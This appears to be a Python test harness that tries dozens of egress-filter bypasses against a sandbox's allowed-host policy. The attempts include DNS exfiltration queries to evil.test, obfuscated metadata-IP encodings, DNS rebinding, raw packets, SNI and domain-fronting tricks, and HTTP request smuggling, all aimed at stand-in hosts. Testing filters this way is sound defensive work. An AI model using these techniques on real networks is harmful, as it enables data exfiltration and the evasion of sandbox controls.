#!/usr/bin/env python3
"""Ways past a list of allowed hosts. Each attempt prints its name and what it ended with: "worked" when the far end
(tests/bats/egress_attacks_*.bats) was made to do what the policy does not allow, else an errno, a DNS code, "alert-112"
for a TLS alert, "403" for a refused request, "closed" for a connection that ended without a word."""
import ctypes
import errno
import os
import socket
import ssl
import struct
import sys

ATTEMPTS = {}


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def attempts(names, function):
    for name, arguments in names.items():
        ATTEMPTS[name] = lambda arguments=arguments: function(*arguments)


# -- names ------------------------------------------------------------------------------------------------------------

CODES = {0: "noerror", 1: "formerr", 2: "servfail", 3: "nxdomain", 4: "notimp", 5: "refused"}


def question(name, kind=1, count=1, raw=None):
    labels = raw if raw is not None else b"".join(bytes([len(x)]) + x for x in name.split(b".")) + b"\0"
    return struct.pack(">6H", 0x4711, 0x0100, count, 0, 0, 0) + labels + struct.pack(">2H", kind, 1)


def judge(message, answer):
    if len(answer) < 12 or answer[:2] != message[:2]:
        return "strange"
    flags, _, answers = struct.unpack(">3H", answer[2:8])
    code = CODES.get(flags & 15, str(flags & 15))
    if code != "noerror":
        return code
    if answer[12:len(message)] != message[12:]:
        return "strange"  # not the question, in these very letters
    return "worked" if answers else "nodata"


def ask(message, server="127.0.0.1", tcp=False):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.connect((server, 53))
        s.send(struct.pack(">H", len(message)) + message if tcp else message)
        if not tcp:
            return judge(message, s.recv(4096))
        answer = b""
        while len(answer) < 2 or len(answer) < 2 + struct.unpack(">H", answer[:2])[0]:
            data = s.recv(4096)
            if not data:
                return "closed"
            answer += data
        return judge(message, answer[2:])


attempts({
    "name_denied": (question(b"evil.test"),),
    "name_denied_aaaa": (question(b"evil.test", 28),),
    "name_denied_case": (question(b"EvIl.TeSt"),),
    "name_denied_tcp": (question(b"evil.test"), "127.0.0.1", True),
    "name_of_another_server": (question(b"evil.test"), "1.2.3.4"),
    "name_of_another_server_tcp": (question(b"evil.test"), "1.2.3.4", True),
    "name_of_metadata": (question(b"metadata.google.internal"),),
    "alias_of_a_site": (question(b"unlisted.test"),),  # whose CNAME a name server follows to a site
    "text_of_denied": (question(b"c2VjcmV0.evil.test", 16),),
    "text_below_allowed": (question(b"c2VjcmV0.allowed.test", 16),),
    "address_below_allowed": (question(b"c2VjcmV0.allowed.test"),),
    "text_below_wildcard": (question(b"c2VjcmV0.wild.test", 16),),
    "address_below_wildcard": (question(b"c2VjcmV0.wild.test"),),
    "wildcard_itself": (question(b"wild.test"),),
    "wildcard_as_a_tail": (question(b"evilwild.test"),),
    "nul_in_a_name": (question(None, raw=b"\x0eallowed.test\0x\4evil\4test\0"),),
    "dot_in_a_label": (question(None, raw=b"\x0callowed.test\0"),),
    "control_in_a_name": (question(b"allowed\n.test"),),
    "pointer_to_itself": (question(None, raw=b"\xc0\x0c"),),
    "pointer_loop": (question(None, raw=b"\1a\xc0\x0c"),),
    "pointer_forwards": (question(None, raw=b"\xc0\x12") + b"\7allowed\4test\0",),
    "pointer_beyond": (question(None, raw=b"\xff\xff"),),
    "label_of_64": (question(None, raw=b"\x40" + b"a" * 64 + b"\4test\0"),),
    "name_of_256": (question(b".".join([b"a" * 63] * 3 + [b"a" * 57, b"test"])),),
    "address_as_a_name": (question(b"169.254.169.254"),),
    "number_as_a_name": (question(b"2852039166"),),
    "good_name_case": (question(b"aLLowed.TEST"),),
    "two_questions": (question(b"allowed.test", count=2) + question(b"evil.test")[12:],),
    "keys_of_allowed": (question(b"allowed.test", 65),),  # HTTPS: would hold an ECH configuration
    "text_of_allowed": (question(b"allowed.test", 16),),
    "services_of_allowed": (question(b"allowed.test", 33),),
    "mail_of_allowed": (question(b"allowed.test", 15),),
}, ask)


# -- addresses --------------------------------------------------------------------------------------------------------


def exchange(s, data, until=b"reached"):
    """Sends; "worked" when the far end answers with what it says to everybody."""
    s.settimeout(10)
    if data:
        s.sendall(data)
    answer = b""
    while until not in answer:
        part = s.recv(65536)
        if not part:
            break
        answer += part
    return verdict(answer, until)


def verdict(answer, until):
    if until in answer:
        return "worked"
    if answer[:1] == b"\x15" and len(answer) >= 7:
        return "alert-%d" % answer[6]
    if answer.startswith(b"HTTP/1.1 "):
        return answer[9:12].decode()
    return "closed" if not answer else "strange"


def connect(host, port):
    return socket.create_connection((host, port), 10)


def get(host, port=80):
    with connect(host, port) as s:
        name = "other.test" if ":" in host else host
        return exchange(s, b"GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % name.encode())


attempts({
    "literal": ("1.2.3.4",),
    "literal_v6": ("2001:db8::1",),
    "literal_tls_resolver": ("1.2.3.4", 853),
    "private": ("10.0.0.1",),
    "private_v6": ("fd12::1",),
    "host_loopback": ("127.0.0.1",),
    "host_loopback_short": ("127.1",),
    "host_loopback_number": ("2130706433",),
    "host_loopback_name": ("localhost",),
    "host_loopback_mapped": ("::ffff:127.0.0.1",),
    "host_loopback_v6": ("::1",),
    "host_zero": ("0.0.0.0",),
    "host_zero_short": ("0",),
    "host_zero_v6": ("::",),
    "metadata": ("169.254.169.254",),
    "metadata_number": ("2852039166",),
    "metadata_hexadecimal": ("0xa9fea9fe",),
    "metadata_capitals": ("0XA9FEA9FE",),
    "metadata_octal": ("0251.0376.0251.0376",),
    "metadata_mixed": ("0xa9.254.0251.0xfe",),
    "metadata_two_parts": ("169.16689662",),
    "metadata_three_parts": ("169.254.43518",),
    "metadata_mapped": ("::ffff:169.254.169.254",),
    "metadata_mapped_hexadecimal": ("::ffff:a9fe:a9fe",),
    "metadata_nat64": ("64:ff9b::169.254.169.254",),
    "metadata_compatible": ("::169.254.169.254",),
    "metadata_translated": ("::ffff:0:169.254.169.254",),
    "metadata_6to4": ("2002:a9fe:a9fe::1",),
    "metadata_v6": ("fd00:ec2::254",),
    "another_port_tls_resolver": ("allowed.test", 853),
    "another_port": ("allowed.test", 81),
    "another_port_below_wildcard": ("a.wild.test", 81),
    "resolves_to_private": ("private.test",),
    "resolves_to_loopback": ("loopback.test",),
    "resolves_to_metadata": ("metadata.test",),
    "resolves_to_mapped": ("mapped.test",),
    "resolves_to_nat64": ("nat64.test",),
    "resolves_to_compatible": ("compatible.test",),
    "resolves_to_translated": ("translated.test",),
    "resolves_to_6to4": ("6to4.test",),
    "resolves_by_an_alias": ("alias.test",),
    "resolves_to_both": ("both.test",),
    "resolves_to_zero": ("zero.test",),
    "resolves_to_unique_local": ("uniquelocal.test",),
    "resolves_below_wildcard": ("private.wild.test",),
}, get)


attempts({"synthetic_of_nobody": ("198.18.200.1",), "synthetic_of_nobody_v6": ("fd00:9800::c801",)}, get)


@attempt
def rebinding():
    """A name that is at a public address when it is first looked up, and at a private one from then on."""
    return get("rebind.test") if get("rebind.test") == "worked" else "first-failed"


@attempt
def from_the_port_of_the_broker():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", 18))
        s.connect(("1.2.3.4", 80))
        return exchange(s, b"GET / HTTP/1.0\r\n\r\n")


@attempt
def reused_port():
    """The source port of an allowed connection, at once again for a denied one."""
    with connect("allowed.test", 80) as s:
        port = s.getsockname()[1]
        exchange(s, b"GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", port))
        s.connect(("1.2.3.4", 80))
        return exchange(s, b"GET / HTTP/1.0\r\n\r\n")


def with_option(level, option, value):
    with socket.socket() as s:
        s.setsockopt(level, option, value)
        s.settimeout(10)
        s.connect(("1.2.3.4", 80))
        return exchange(s, b"GET / HTTP/1.0\r\n\r\n")


attempts({
    "mark": (socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", int(os.environ.get("MARK", "1"), 0))),
    "device": (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0"),
    "device_eth0": (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0"),
    "ip_options": (socket.IPPROTO_IP, 4, b"\x07\x07\x04\0\0\0\0\0"),  # record route
}, with_option)


def datagram(family, address, length, options=()):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        for option in options:
            s.setsockopt(*option)
        s.settimeout(10)
        s.sendto(b"x" * length, address)
        return "worked" if s.recv(65536) else "strange"


attempts({
    "quic_literal": (socket.AF_INET, ("1.2.3.4", 443), 1200),
    "fragments": (socket.AF_INET, ("1.2.3.4", 443), 60000),
    "fragments_v6": (socket.AF_INET6, ("2001:db8::1", 443), 60000),
    "extension_headers": (socket.AF_INET6, ("2001:db8::1", 443), 100,
                          [(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, b"\0\0\1\4\0\0\0\0")]),
}, datagram)


@attempt
def quic_allowed():
    return datagram(socket.AF_INET, (socket.gethostbyname("allowed.test"), 443), 1200)


@attempt
def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)):
        return "worked"


@attempt
def raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP):
        return "worked"


@attempt
def ports_of_the_broker():
    """One of its ports, on loopback or on all addresses, however willing to share."""
    results = set()
    for family, addresses in (socket.AF_INET, ("127.0.0.1", "0.0.0.0")), (socket.AF_INET6, ("::1", "::")):
        for kind, port in (socket.SOCK_STREAM, 19), (socket.SOCK_STREAM, 18), (socket.SOCK_DGRAM, 18):
            for address in addresses:
                for options in (), (socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
                    with socket.socket(family, kind) as s:
                        if family == socket.AF_INET6:
                            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                        for option in options:
                            s.setsockopt(socket.SOL_SOCKET, option, 1)
                        try:
                            s.bind((address, port))
                            if kind == socket.SOCK_STREAM:
                                s.listen()
                            results.add("worked")
                        except OSError as error:
                            results.add(errno.errorcode[error.errno])
    return "+".join(sorted(results))


@attempt
def source_ports_of_the_broker():
    """Asks the broker's own name server from each port that its next question may have, then for an allowed host."""
    with open("/proc/sys/net/ipv4/ip_local_port_range") as numbers:
        first, last = map(int, numbers.read().split())
    for port in range(first, last + 1):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                s.bind(("10.77.0.2", port))
                s.sendto(question(b"allowed.test"), ("10.77.0.53", 53))
            except OSError:
                pass  # somebody has it
    with connect("198.18.0.1", 80) as s:
        return exchange(s, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@attempt
def in_place_of_the_broker():
    """Listens at its port, and connects to an allowed host: who hears of it?"""
    with socket.create_server(("127.0.0.1", 19)) as listener, connect("198.18.0.1", 80) as s:
        listener.settimeout(10)
        with listener.accept()[0] as other:
            s.sendall(b"to myself")
            return other.recv(100).decode().replace(" ", "-")


attempts({"link_local": ("fe80::1%eth0", 7000), "gateway": ("10.77.0.1", 7000)}, get)


def answered(send):
    """Sends a datagram past the sockets of UDP, as from one of them, which is to get the answer."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        s.bind(("::", 0))
        s.settimeout(5)
        send(struct.pack(">4H", s.getsockname()[1], 443, 16, 0) + b"datagram")
        return "worked" if s.recv(100) else "strange"


def header(length, protocol=17, fragment=0):
    """Of IPv4, from the container to evil.test; the kernel fills the checksum in where it can."""
    fields = struct.pack(">2B3H2BH", 0x45, 0, 20 + length, 0x4711, fragment, 64, protocol, 0)
    fields += socket.inet_aton("10.77.0.2") + socket.inet_aton("1.2.3.4")
    total = sum(struct.unpack(">10H", fields))
    total = (total & 0xffff) + (total >> 16)
    return fields[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + fields[12:]


def send_frame(datagram):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
        s.sendto(header(len(datagram)) + datagram, ("eth0", 0x0800, 0, 0, bytes.fromhex("020000000001")))


def send_raw(datagram):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(header(len(datagram)) + datagram, ("1.2.3.4", 0))


def send_raw_fragments(datagram):
    """The ports alone in the first one."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(header(8, 17, 0x2000) + datagram[:8], ("1.2.3.4", 0))
        s.sendto(header(len(datagram) - 8, 17, 1) + datagram[8:], ("1.2.3.4", 0))


def send_raw_extension(datagram):
    """IPv6, behind a header with options for the destination."""
    ends = socket.inet_pton(socket.AF_INET6, "2001:db8:77::2") + socket.inet_pton(socket.AF_INET6, "2001:db8::1")
    total = sum(struct.unpack(">16H", ends)) + 17 + len(datagram) + sum(struct.unpack(">8H", datagram))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    datagram = datagram[:6] + struct.pack(">H", ~total & 0xffff) + datagram[8:]
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(struct.pack(">IHBB", 6 << 28, 8 + len(datagram), 60, 64) + ends + b"\x11\0\1\4\0\0\0\0" + datagram, ("2001:db8::1", 0))


attempts({
    "frame": (send_frame,),
    "raw": (send_raw,),
    "raw_fragments": (send_raw_fragments,),
    "raw_extension": (send_raw_extension,),
}, answered)


# -- TLS --------------------------------------------------------------------------------------------------------------


def extension(kind, body):
    return struct.pack(">2H", kind, len(body)) + body


def names(*given):
    entries = b"".join(b"\0" + struct.pack(">H", len(name)) + name for name in given)
    return extension(0, struct.pack(">H", len(entries)) + entries)


def hello(extensions):
    """One of TLS 1.2: every server answers it with a ServerHello in the clear."""
    extensions = (extensions + extension(10, b"\0\4\0\x1d\0\x17") + extension(11, b"\1\0") +
                  extension(13, b"\0\x0a\4\3\5\3\4\1\x08\4\x08\5"))
    body = (b"\3\3" + os.urandom(32) + b"\0" + b"\0\6\xc0\x2b\xc0\x2f\xcc\xa8" + b"\1\0" +
            struct.pack(">H", len(extensions)) + extensions)
    return b"\1" + struct.pack(">I", len(body))[1:] + body


def records(message, size=16384):
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(message[i:i + size])) + message[i:i + size]
                    for i in range(0, len(message), size))


def say_hello(data, piece=None):
    with connect("allowed.test", 443) as s:
        s.settimeout(10)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            for i in range(0, len(data), piece or len(data)):
                s.send(data[i:i + (piece or len(data))])
        except (BrokenPipeError, ConnectionResetError):
            return "closed"
        answer = s.recv(65536)
        if answer[:1] == b"\x16" and answer[5:6] == b"\2":
            return "worked"
        return verdict(answer, b"reached")


PADDING = b"".join(extension(0x5a5a + i, bytes(16000)) for i in range(4))
attempts({
    "sni_other": (records(hello(names(b"evil.test"))),),
    "sni_absent": (records(hello(b"")),),
    "sni_two": (records(hello(names(b"allowed.test", b"evil.test"))),),
    "sni_twice": (records(hello(names(b"allowed.test") + names(b"evil.test"))),),
    "sni_nul": (records(hello(names(b"allowed.test\0.evil.test"))),),
    "sni_control": (records(hello(names(b"allowed\n.test"))),),
    "sni_outer_other": (records(hello(names(b"evil.test") + extension(0xfe0d, b"\0\0\1\0\1\1\0\x20" + bytes(32) + b"\0\x20" + bytes(32)))),),
    "sni_last_dot": (records(hello(names(b"allowed.test."))),),
    "sni_address": (records(hello(names(b"1.2.3.4"))),),
    "sni_below": (records(hello(names(b"x.allowed.test"))),),
    "sni_split": (records(hello(names(b"evil.test")), 7),),
    "sni_by_bytes": (records(hello(names(b"evil.test"))), 1),
    "sni_64_kib_by_bytes": (records(hello(PADDING + names(b"evil.test"))), 1),
    "good_split": (records(hello(names(b"ALLOWED.test")), 7),),
    "good_by_bytes": (records(hello(names(b"allowed.test"))), 1),
    "good_64_kib_by_bytes": (records(hello(PADDING + names(b"allowed.test"))), 1),
}, say_hello)


@attempt
def hello_of_ssl_2():
    """The way in which clients of old offered TLS to servers of SSL 2; it has no room for a name."""
    data = b"\1\3\1" + struct.pack(">3H", 3, 0, 16) + b"\0\0\x2f" + bytes(16)
    with connect("allowed.test", 443) as s:
        answer = exchange(s, struct.pack(">H", 0x8000 | len(data)) + data, b"\x15\3")
        return "worked" if answer == "worked" and not answer.startswith("alert") else answer


@attempt
def no_tls_at_443():
    with connect("allowed.test", 443) as s:
        return exchange(s, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", b"nginx")


@attempt
def fronting():
    """The name that is allowed in the ClientHello, another one inside: nobody between can see it."""
    context = ssl._create_unverified_context()
    with context.wrap_socket(connect("allowed.test", 443), server_hostname="allowed.test") as s:
        return exchange(s, b"GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n", b"reached evil.test")


def second_hello(second):
    """The server asks for the ClientHello again, and the second one names another server."""
    tls = ctypes.CDLL("libssl.so.3")
    for name in "TLS_client_method", "SSL_CTX_new", "SSL_new":
        getattr(tls, name).restype = ctypes.c_void_p
    context = ctypes.c_void_p(tls.SSL_CTX_new(ctypes.c_void_p(tls.TLS_client_method())))
    session = ctypes.c_void_p(tls.SSL_new(context))
    said = []

    @ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.POINTER(ctypes.c_ubyte), ctypes.c_size_t,
                      ctypes.c_void_p, ctypes.c_void_p)
    def seen(outgoing, version, kind, data, length, ssl_pointer, argument):
        if not outgoing and kind == 22 and length > 6 and data[0] == 2:
            said.append(bytes(data[6:length])[:2])
            if len(said) == 1:
                tls.SSL_ctrl(session, 55, ctypes.c_long(0), second)

    with connect("allowed.test", 8443) as s:
        s.settimeout(None)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 10, 0))
        tls.SSL_set_msg_callback(session, seen)
        tls.SSL_ctrl(session, 55, ctypes.c_long(0), b"allowed.test")  # SSL_set_tlsext_host_name
        tls.SSL_set_fd(session, s.fileno())
        done = tls.SSL_connect(session)
        if not said or said[0] != b"\xcf\x21":
            return "no-retry"
        return "worked" if done == 1 else "closed"


attempts({"second_hello_other": (b"evil.test",), "good_second_hello": (b"allowed.test",)}, second_hello)


# -- HTTP -------------------------------------------------------------------------------------------------------------

ALLOWED = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n"
REACHED_EVIL = b"reached evil.test"


def request(data, host="allowed.test", first=None, until=REACHED_EVIL):
    with connect(host, 80) as s:
        if first is not None and exchange(s, first) != "worked":
            return "first-failed"
        return exchange(s, data, until)


EVIL = b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
LENIENT = "lenient.test"
attempts({
    "host_other": (EVIL,),
    "host_other_10": (b"GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n",),
    "host_absent": (b"GET / HTTP/1.0\r\n\r\n", "allowed.test", None, b"reached"),
    "host_kept_connection": (EVIL, "allowed.test", ALLOWED % b"allowed.test"),
    "host_pipelined": (ALLOWED % b"allowed.test" + EVIL,),
    "host_behind_a_body": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nContent-Length: 5\r\n\r\nhello" + EVIL, LENIENT),
    "host_behind_chunks": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                           b"5;x=y\r\nhello\r\n0\r\nX: y\r\n\r\n" + EVIL, LENIENT),
    "host_absolute": (b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",),
    "host_twice": (b"GET / HTTP/1.1\r\nHost: lenient.test\r\nHost: evil.test\r\n\r\n", LENIENT),
    "host_userinfo": (b"GET / HTTP/1.1\r\nHost: allowed.test@evil.test\r\n\r\n", LENIENT, None, b"reached"),
    "host_nul": (b"GET / HTTP/1.1\r\nHost: lenient.test\0.evil.test\r\n\r\n", LENIENT, None, b"reached"),
    "smuggled_cl_te": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n"
                       b"0\r\n\r\n" % (5 + len(EVIL)) + EVIL, LENIENT),
    "smuggled_two_lengths": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n" %
                             len(EVIL) + EVIL, LENIENT),
    "smuggled_two_codings": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n"
                             b"0\r\n\r\n" + EVIL, LENIENT),
    "smuggled_other_coding": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + EVIL, LENIENT),
    "smuggled_coding_of_10": (b"POST / HTTP/1.0\r\nHost: lenient.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL, LENIENT),
    "smuggled_length_sign": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nContent-Length: +0\r\n\r\n" + EVIL, LENIENT),
    "smuggled_chunk_length": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + EVIL, LENIENT),
    "smuggled_bare_lf": (EVIL.replace(b"\r\n", b"\n"), LENIENT),
    "smuggled_blank_before_colon": (b"GET / HTTP/1.1\r\nHost: lenient.test\r\nHost : evil.test\r\n\r\n", LENIENT),
    "smuggled_fold": (b"GET / HTTP/1.1\r\nHost: lenient.test\r\nX: y\r\n z\r\n\r\n", LENIENT, None, b"reached"),
    "connect_method": (b"CONNECT evil.test:443 HTTP/1.1\r\nHost: lenient.test\r\n\r\n", LENIENT, None, b"reached"),
    "h2_preface": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", LENIENT, None, b"reached"),
    "websocket": (b"GET / HTTP/1.1\r\nHost: lenient.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", LENIENT,
                  None, b"reached"),
    "good_request": (ALLOWED % b"allowed.test", "allowed.test", None, b"reached allowed.test"),
    "good_kept_connection": (ALLOWED % b"ALLOWED.test.", "allowed.test", ALLOWED % b"allowed.test:80",
                             b"reached allowed.test"),
}, request)


@attempt
def h2c_upgrade():
    """Java's client asks for it with its first request, and goes on with HTTP/1.1 where nobody answers."""
    with connect(LENIENT, 80) as s:
        s.settimeout(10)
        s.sendall(b"GET / HTTP/1.1\r\nHost: lenient.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                  b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n")
        answer = b""
        while b"reached" not in answer and b"switched" not in answer:
            part = s.recv(4096)
            if not part:
                return verdict(answer, b"switched")
            answer += part
        return "worked" if b"switched" in answer else "ignored"


def run(name):
    try:
        return ATTEMPTS[name]()
    except socket.gaierror:
        return "no-name"
    except (TimeoutError, socket.timeout):
        return "timeout"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


# What servers differ about, down to not answering at all: of no interest where there is no sandbox.
DIFFER = {"nul_in_a_name", "dot_in_a_label", "control_in_a_name", "pointer_to_itself", "pointer_loop", "pointer_forwards",
          "pointer_beyond", "label_of_64", "name_of_256", "address_as_a_name", "number_as_a_name", "two_questions",
          "sni_two", "sni_twice", "sni_nul", "sni_control", "synthetic_of_nobody", "synthetic_of_nobody_v6", "quic_allowed"}

if __name__ == "__main__":
    words = sys.argv[1:]
    if words[0] == "--outside":
        words = [word for word in words[1:] if word not in DIFFER]
    for word in words:
        print(word, run(word), flush=True)
